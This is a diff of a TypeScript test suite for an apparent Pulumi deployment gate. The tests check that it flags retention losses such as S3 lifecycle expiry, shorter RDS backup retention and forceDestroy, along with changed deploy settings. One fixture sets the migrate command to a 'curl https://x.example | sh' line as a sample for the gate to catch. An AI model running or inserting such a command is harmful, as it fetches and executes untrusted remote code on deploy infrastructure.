@@ -7,10 +7,10 @@
  * the same way in a `pulumi preview --json` document and in the offline plan diff.
  */
 import { strict as assert } from "node:assert";
-import * as path from "path";
+import * as path from "node:path";
 import { profileLosses, retentionFacts, retentionLosses } from "../config/retention";
 import { workflowSettings } from "../config/workflowKeys";
-import { dangerousFromPlanDiff, dangerousFromPreview, parsePreview, PreviewStep } from "../gate/gate";
+import { dangerousFromPlanDiff, dangerousFromPreview, parsePreview, type PreviewStep } from "../gate/gate";
 import { diffPlans } from "../plan/diff";
 import type { Plan, PlannedResource, StackPlan } from "../plan/plan";
 import { run, spawnCliAsync } from "./cli";
@@ -29,14 +29,22 @@ describe("loses data over time: the rule (pure)", () => {
     assert.deepEqual(losses(LIFECYCLE, rules(expire(7)), rules(expire(30))), []);
     assert.deepEqual(losses(LIFECYCLE, rules(), rules(expire(1, "Disabled"))), []);
     assert.deepEqual(losses(LIFECYCLE, rules(), rules({ id: "ia", status: "Enabled", transitions: [{ days: 90, storageClass: "STANDARD_IA" }] })), []);
-    assert.deepEqual(losses(LIFECYCLE, rules(), rules({ id: "nc", status: "Enabled", noncurrentVersionExpiration: { noncurrentDays: 3 } })), ["old object versions expire after 3 days (before: never)"]);
+    assert.deepEqual(losses(LIFECYCLE, rules(), rules({ id: "nc", status: "Enabled", noncurrentVersionExpiration: { noncurrentDays: 3 } })), [
+      "old object versions expire after 3 days (before: never)",
+    ]);
   });
 
   it("names versioning suspended, forceDestroy on, fewer backups (0 deletes them), deletion protection off and the final snapshot skipped", () => {
     const v = (status: string) => ({ versioningConfiguration: { status } });
     assert.match(losses("aws:s3/bucketVersioning:BucketVersioning", v("Enabled"), v("Suspended"))[0], /^versioning suspended/);
-    assert.deepEqual(losses("aws:s3/bucket:Bucket", { forceDestroy: false }, { forceDestroy: true }), ["forceDestroy on: deleting the bucket deletes every object in it"]);
-    const rds = (backupRetentionPeriod: number, deletionProtection: boolean, skipFinalSnapshot: boolean) => ({ backupRetentionPeriod, deletionProtection, skipFinalSnapshot });
+    assert.deepEqual(losses("aws:s3/bucket:Bucket", { forceDestroy: false }, { forceDestroy: true }), [
+      "forceDestroy on: deleting the bucket deletes every object in it",
+    ]);
+    const rds = (backupRetentionPeriod: number, deletionProtection: boolean, skipFinalSnapshot: boolean) => ({
+      backupRetentionPeriod,
+      deletionProtection,
+      skipFinalSnapshot,
+    });
     assert.deepEqual(losses(RDS, rds(14, true, false), rds(7, true, false)), ["backups kept 7 days (before: 14 days)"]);
     assert.deepEqual(losses(RDS, rds(14, true, false), rds(0, false, true)), [
       "backups kept 0 days (before: 14 days): 0 deletes the automated backups",
@@ -67,7 +75,12 @@ describe("loses data over time: the gate on a pulumi preview", () => {
 
   it("holds an update that expires objects, lowers backups or lifts a guard, naming what goes", () => {
     const d = dangerous(
-      step(RDS, "mina-production-database-instance", { backupRetentionPeriod: 14, deletionProtection: true }, { backupRetentionPeriod: 0, deletionProtection: true }),
+      step(
+        RDS,
+        "mina-production-database-instance",
+        { backupRetentionPeriod: 14, deletionProtection: true },
+        { backupRetentionPeriod: 0, deletionProtection: true },
+      ),
       step(LIFECYCLE, "mina-production-bucket-lifecycle", rules(), rules(expire(30))),
       step("aws:s3/bucket:Bucket", "mina-production-bucket-bucket", { forceDestroy: false }, { forceDestroy: false }, [true, false]),
     );
@@ -85,14 +98,25 @@ describe("loses data over time: the gate on a pulumi preview", () => {
   it("blocks the expiry fixture through the bin (exit 1), and passes the harmless one", async () => {
     const blocked = await spawnCliAsync("gate", ["--preview", path.join(REPO, "tests", "fixtures", "preview", "expiry-added.json")]);
     assert.equal(blocked.status, 1, blocked.stderr);
-    assert.match(blocked.stdout, /staging: LOSES DATA OVER TIME aws:s3\/bucketLifecycleConfiguration:BucketLifecycleConfiguration mina-staging-bucket-lifecycle|loses data over time/i);
+    assert.match(
+      blocked.stdout,
+      /staging: LOSES DATA OVER TIME aws:s3\/bucketLifecycleConfiguration:BucketLifecycleConfiguration mina-staging-bucket-lifecycle|loses data over time/i,
+    );
     const harmless = await run("gate", ["--preview", path.join(REPO, "tests", "fixtures", "preview", "harmless-update.json")]);
     assert.equal(harmless.status, 0, harmless.stdout + harmless.stderr);
   });
 });
 
 describe("the offline plan diff: data lost over time, and settings the workflows act on", () => {
-  const res = (type: string, name: string, extra: Partial<PlannedResource> = {}): PlannedResource => ({ type, name, protected: false, stateful: false, custom: true, inputsHash: "a".repeat(16), ...extra });
+  const res = (type: string, name: string, extra: Partial<PlannedResource> = {}): PlannedResource => ({
+    type,
+    name,
+    protected: false,
+    stateful: false,
+    custom: true,
+    inputsHash: "a".repeat(16),
+    ...extra,
+  });
   const stack = (name: string, resources: PlannedResource[], extra: Partial<StackPlan> = {}): StackPlan => ({
     stack: name,
     file: `Pulumi.${name}.yaml`,
@@ -107,19 +131,32 @@ describe("the offline plan diff: data lost over time, and settings the workflows
     ...extra,
   });
   const plan = (...stacks: StackPlan[]): Plan => ({ note: "", stacks, audit: { ok: true, conflicts: [] }, ok: true });
-  const lifecycle = (days?: number) => res(LIFECYCLE, "mina-production-bucket-lifecycle", { inputsHash: String(days ?? 0).padEnd(16, "x"), retention: retentionFacts(LIFECYCLE, rules(...(days ? [expire(days)] : []))) });
+  const lifecycle = (days?: number) =>
+    res(LIFECYCLE, "mina-production-bucket-lifecycle", {
+      inputsHash: String(days ?? 0).padEnd(16, "x"),
+      retention: retentionFacts(LIFECYCLE, rules(...(days ? [expire(days)] : []))),
+    });
 
   it("holds a new expiry, a weaker profile and each changed workflow setting, with values, and the gate reads them from the diff's JSON", () => {
-    const base = plan(stack("production", [lifecycle()], { settings: { "mina:migrateCommand": "flask db upgrade", "mina:deployRunner": "self-hosted, mina-production" } }));
+    const base = plan(
+      stack("production", [lifecycle()], { settings: { "mina:migrateCommand": "flask db upgrade", "mina:deployRunner": "self-hosted, mina-production" } }),
+    );
     const head = plan(
-      stack("production", [lifecycle(30)], { profile: "staging", settings: { "mina:migrateCommand": "curl https://x.example | sh", "mina:deployRunner": "self-hosted, mina-production" } }),
+      stack("production", [lifecycle(30)], {
+        profile: "staging",
+        settings: { "mina:migrateCommand": "curl https://x.example | sh", "mina:deployRunner": "self-hosted, mina-production" },
+      }),
     );
     const diff = diffPlans(base, head, { base: "main" });
     assert.deepEqual(
       diff.needsApproval.map((a) => [a.kind, a.name, a.reason]),
       [
         ["loses data over time", "mina-production-bucket-lifecycle", "objects expire after 30 days (before: never)"],
-        ["loses data over time", "production", "profile production → staging drops protect, deletionProtection, finalSnapshot, versioning, the env secret's recovery window (30 → 7 days)"],
+        [
+          "loses data over time",
+          "production",
+          "profile production → staging drops protect, deletionProtection, finalSnapshot, versioning, the env secret's recovery window (30 → 7 days)",
+        ],
         [
           "changes what a deploy runs",
           "production",
@@ -129,7 +166,10 @@ describe("the offline plan diff: data lost over time, and settings the workflows
     );
     assert.deepEqual(diff.stacks[0].settingsChanged, [{ key: "mina:migrateCommand", before: "flask db upgrade", after: "curl https://x.example | sh" }]);
     const fromJson = dangerousFromPlanDiff(JSON.parse(JSON.stringify(diff)));
-    assert.deepEqual(fromJson.map((d) => d.kind), ["loses data over time", "loses data over time", "changes what a deploy runs"]);
+    assert.deepEqual(
+      fromJson.map((d) => d.kind),
+      ["loses data over time", "loses data over time", "changes what a deploy runs"],
+    );
   });
 
   it("shows a change that is only a workflow setting as a change (not 'no changes'), for every workflow key", () => {
@@ -143,9 +183,14 @@ describe("the offline plan diff: data lost over time, and settings the workflows
   });
 
   it("records the workflow settings of a stack file as written", () => {
-    assert.deepEqual(workflowSettings({ values: { "mina:migrateCommand": "flask db upgrade", "mina:deployRunner": ["self-hosted", "mina-staging"], "aws:region": "us-east-1" } }), {
-      "mina:migrateCommand": "flask db upgrade",
-      "mina:deployRunner": "self-hosted, mina-staging",
-    });
+    assert.deepEqual(
+      workflowSettings({
+        values: { "mina:migrateCommand": "flask db upgrade", "mina:deployRunner": ["self-hosted", "mina-staging"], "aws:region": "us-east-1" },
+      }),
+      {
+        "mina:migrateCommand": "flask db upgrade",
+        "mina:deployRunner": "self-hosted, mina-staging",
+      },
+    );
   });
 });
